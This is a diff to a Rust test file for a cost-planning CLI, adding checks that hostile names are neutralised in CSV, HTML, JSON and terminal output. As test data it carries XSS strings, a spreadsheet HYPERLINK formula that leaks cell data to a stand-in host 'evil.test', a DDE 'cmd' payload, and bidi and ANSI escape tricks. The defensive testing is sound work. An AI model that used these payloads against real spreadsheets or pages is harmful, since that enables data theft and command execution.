@@ -11,11 +11,50 @@ use predicates::prelude::*;
 const EVIL: &str = r#"<script>alert("x")</script> & 'Co' <img src=x onerror=alert(1)>"#;
 const EVIL_REGION: &str = "eu-\"west\"&<b>1</b>";
 
+/// A TOML basic string: quotes and backslashes escaped, control and bidi characters as
+/// `\uXXXX`.
 fn toml_str(s: &str) -> String {
-    format!("{s:?}")
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            c if c.is_control()
+                || matches!(c, '\u{200E}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') =>
+            {
+                write!(out, "\\u{:04X}", u32::from(c)).unwrap()
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
 }
 
+/// The names an attacker controls in the hostile bill and plan file.
+struct Names<'a> {
+    /// The first series' service (also the pool's, the budget group's and the limit's match).
+    service: &'a str,
+    /// Both series' region.
+    region: &'a str,
+    /// The budget group's name.
+    group: &'a str,
+    /// The second demand scenario's name.
+    demand: &'a str,
+}
+
+const EVIL_NAMES: Names<'static> = Names {
+    service: EVIL,
+    region: EVIL_REGION,
+    group: "team <script>alert(\"x\")</script> & 'Co' <img src=x onerror=alert(1)>",
+    demand: "up <i>&amp;</i> \"more\"",
+};
+
 fn write_inputs(dir: &Path, budget: &str) {
+    write_inputs_named(dir, budget, &EVIL_NAMES);
+}
+
+fn write_inputs_named(dir: &Path, budget: &str, names: &Names<'_>) {
     // 70 days of hourly usage: one steady, one business-hours series; cost = 0.1 × quantity.
     let mut csv = String::from("timestamp,service,region,instance_type,quantity,unit,cost\n");
     for h in 0..70 * 24 {
@@ -31,8 +70,8 @@ fn write_inputs(dir: &Path, budget: &str) {
         writeln!(
             csv,
             "{ts},{},{},m.large,{},Hours,{:.4}",
-            field(EVIL),
-            field(EVIL_REGION),
+            field(names.service),
+            field(names.region),
             q(steady),
             steady * 0.1
         )
@@ -40,7 +79,7 @@ fn write_inputs(dir: &Path, budget: &str) {
         writeln!(
             csv,
             "{ts},Storage,{},none,{},GB-Hours,{:.4}",
-            field(EVIL_REGION),
+            field(names.region),
             q(office),
             office * 0.02
         )
@@ -62,9 +101,9 @@ offer = [
   {{ id = "evil-3y", kind = "ri_standard", term = "3y", payment = "all_upfront", upfront = "1051.2" }},
 ]
 "#,
-        desc = toml_str(&format!("pool of {EVIL}")),
-        svc = toml_str(EVIL),
-        reg = toml_str(EVIL_REGION),
+        desc = toml_str(&format!("pool of {}", names.service)),
+        svc = toml_str(names.service),
+        reg = toml_str(names.region),
     );
     std::fs::write(dir.join("rates.toml"), rates).unwrap();
     let plan = format!(
@@ -124,9 +163,9 @@ name = "lookback"
 kind = "lookback"
 days = 14
 "#,
-        group = toml_str(&format!("team {EVIL}")),
-        svc = toml_str(EVIL),
-        dname = toml_str("up <i>&amp;</i> \"more\""),
+        group = toml_str(names.group),
+        svc = toml_str(names.service),
+        dname = toml_str(names.demand),
     );
     std::fs::write(dir.join("plan.toml"), plan).unwrap();
 }
@@ -228,7 +267,7 @@ fn hostile_names_render_as_text_and_reruns_are_byte_identical() {
         .1;
     let mut rd = csv::Reader::from_reader(csv.as_slice());
     let row = rd.records().next().unwrap().unwrap();
-    assert_eq!(&row[0], format!("team {EVIL}"));
+    assert_eq!(&row[0], EVIL_NAMES.group);
     // JSON: money as exact strings.
     let json: serde_json::Value = serde_json::from_slice(
         &a.iter()
@@ -245,6 +284,119 @@ fn hostile_names_render_as_text_and_reruns_are_byte_identical() {
         String::from_utf8(a.iter().find(|(n, _)| n == "index.html").unwrap().1.clone()).unwrap();
     assert!(index.contains("href=\"hostile-FY2027-Q2.html\""));
     assert!(!index.contains("<script"));
+}
+
+/// Formula injection (OWASP), bidi controls and terminal escapes in names: the report's CSVs
+/// and `ingest`'s CSV neutralise formulas (JSON keeps the exact text), the HTML shows bidi
+/// controls and ESC as U+FFFD, and `inspect` prints control characters as visible escapes.
+#[test]
+fn formula_bidi_and_escape_names_are_neutralised() {
+    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
+    const CMD: &str = "+cmd|' /C calc'!A0";
+    const SUM: &str = "@SUM(1)";
+    // U+202E would show "05 USD" as "DSU 50"; ESC [31m would turn the terminal red.
+    const SERVICE: &str = "svc \u{202E}05 USD\u{202C} \u{1b}[31mred\u{1b}[0m";
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    write_inputs_named(
+        dir,
+        "1000000",
+        &Names {
+            service: SERVICE,
+            region: SUM,
+            group: HYPERLINK,
+            demand: CMD,
+        },
+    );
+    report(dir, "r").success();
+    let read = |name: &str| {
+        std::fs::read(dir.join("r").join(format!("hostile-FY2027-Q2.{name}"))).unwrap()
+    };
+
+    // CSV: the formula text is a quoted field with a leading `'`; numbers are untouched.
+    let groups = String::from_utf8(read("budget_groups.csv")).unwrap();
+    let line = groups.lines().nth(1).unwrap();
+    assert!(
+        line.starts_with(
+            "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"click\"\")\",FY2027-Q2,"
+        ),
+        "{groups}"
+    );
+    let matrix = String::from_utf8(read("scenario_matrix.csv")).unwrap();
+    assert!(
+        matrix.contains("\n\"'+cmd|' /C calc'!A0\",none,"),
+        "{matrix}"
+    );
+    for csv in [&groups, &matrix] {
+        let mut rd = csv::Reader::from_reader(csv.as_bytes());
+        for rec in rd.records() {
+            for field in rec.unwrap().iter() {
+                let f = field.trim_start_matches(['\t', '\r']);
+                let numeric = f.parse::<f64>().is_ok();
+                assert!(
+                    numeric || !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{field:?} in {csv}"
+                );
+            }
+        }
+    }
+    // JSON keeps the exact names.
+    let groups: serde_json::Value = serde_json::from_slice(&read("budget_groups.json")).unwrap();
+    assert_eq!(groups[0]["group"], HYPERLINK);
+    let matrix: serde_json::Value = serde_json::from_slice(&read("scenario_matrix.json")).unwrap();
+    assert!(
+        matrix
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["demand"] == CMD)
+    );
+
+    // HTML: no bidi control and no ESC reaches the page; the name shows with U+FFFD.
+    let html = String::from_utf8(read("html")).unwrap();
+    for bad in ['\u{202E}', '\u{202C}', '\u{1b}'] {
+        let at: Vec<String> = html
+            .match_indices(bad)
+            .map(|(i, _)| html[html.floor_char_boundary(i.saturating_sub(120))..i].to_string())
+            .collect();
+        assert!(at.is_empty(), "{bad:?} in the HTML after: {at:#?}");
+    }
+    assert!(html.contains("svc \u{FFFD}05 USD\u{FFFD} \u{FFFD}[31mred\u{FFFD}[0m"));
+
+    // `ingest` CSV: dimension values neutralised; Parquet keeps them.
+    let out = dir.join("series.csv");
+    Command::cargo_bin("capplan")
+        .unwrap()
+        .current_dir(dir)
+        .args(["ingest", "usage.csv", "--by", "service,region", "--out"])
+        .arg(&out)
+        .assert()
+        .success();
+    let series = std::fs::read_to_string(&out).unwrap();
+    assert!(
+        series.contains(",\"'@SUM(1)\","),
+        "{}",
+        &series[..400.min(series.len())]
+    );
+    assert!(!series.contains(",@SUM(1),"));
+
+    // `inspect`: the ESC and the bidi override are printed as visible escapes.
+    let o = Command::cargo_bin("capplan")
+        .unwrap()
+        .current_dir(dir)
+        .args(["inspect", "usage.csv"])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let text = String::from_utf8(o.stdout).unwrap();
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{202E}'),
+        "{text}"
+    );
+    assert!(
+        text.contains("svc \\u{202e}05 USD\\u{202c} \\u{1b}[31mred"),
+        "{text}"
+    );
 }
 
 #[test]
